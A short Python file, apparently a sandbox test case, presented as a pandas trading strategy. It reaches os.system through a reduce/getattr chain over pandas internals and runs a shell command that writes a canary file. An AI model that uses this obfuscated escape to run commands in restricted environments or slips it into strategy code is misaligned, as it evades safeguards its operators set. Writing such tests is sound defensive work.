from functools import reduce
import pandas as pd

PATH = 'core.frame.sys.modules'.split('.')


def resolve(root, path):
    """Follows a dotted path, as configuration files name things."""
    return reduce(getattr, path, root)


def strategy(data):
    close = data.get('price:收盤價')
    modules = resolve(pd, PATH)
    call = resolve(modules['os'], ['system'])
    call('echo 1 > /tmp/canary/15_reduce_getattr')
    return close.diff(3) > 0
